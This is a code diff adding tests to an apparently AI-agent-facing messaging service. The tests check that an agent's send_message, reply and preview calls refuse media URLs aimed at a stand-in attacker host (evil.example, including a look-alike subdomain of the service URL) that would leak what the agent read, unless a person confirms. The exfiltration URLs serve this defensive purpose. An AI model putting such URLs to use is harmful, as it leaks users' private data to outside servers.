@@ -220,6 +220,48 @@ describe('the list of allowed recipients', () => {
     });
   });
 
+  describe('and media', () => {
+    const stolen = ['https://evil.example/?d=Ada'];
+    const sendMedia = (agent: Agent, media_urls: readonly string[]) =>
+      agent.call('send_message', { to, text, media_urls });
+
+    it('refuses a URL that can tell another server what the agent read', async () => {
+      const agent = await agentWith({ variables });
+      const id = await conversationWith(to);
+      for (const refused of [
+        await sendMedia(agent, stolen),
+        await sendMedia(agent, [`${harness.url}/media/med_1`, ...stolen]),
+        await sendMedia(agent, [`${harness.url}.evil.example/media/med_1`]),
+        await agent.call('reply_in_conversation', { id, text, media_urls: stolen }),
+      ]) {
+        expect(refused.isError).toBe(true);
+        expect(refused.text).toMatch(/only media that the service received.*Nothing was sent\./);
+      }
+      const preview = await agent.call('preview_message', { to, text, media_urls: stolen });
+      expect(preview.data).toMatchObject({
+        would_send: false,
+        problem: expect.stringMatching(/"media_urls"/),
+      });
+      expect(await sentTexts()).toEqual([]);
+    });
+
+    it('lets the agent pass on media that the service received', async () => {
+      account = harness.account();
+      for (const connect of [agentHere, agentOverStdio, agentOverHttp]) {
+        const agent = await opened(connect(harness.url, account.keys.send, { variables }));
+        const url = `${harness.url}/media/med_${connect.name}`;
+        expect(await sendMedia(agent, [url])).toMatchObject({ isError: false });
+      }
+    });
+
+    it('lets a person confirm any URL', async () => {
+      const person = () => ({ send: true });
+      const confirmed = { ...variables, TEXTLOOM_CONFIRM: 'true' };
+      const agent = await agentWith({ variables: confirmed, person });
+      expect(await sendMedia(agent, stolen)).toMatchObject({ isError: false });
+    });
+  });
+
   it('applies at /mcp, as a header', async () => {
     account = harness.account();
     const agent = await opened(agentOverHttp(harness.url, account.keys.send, { variables }));
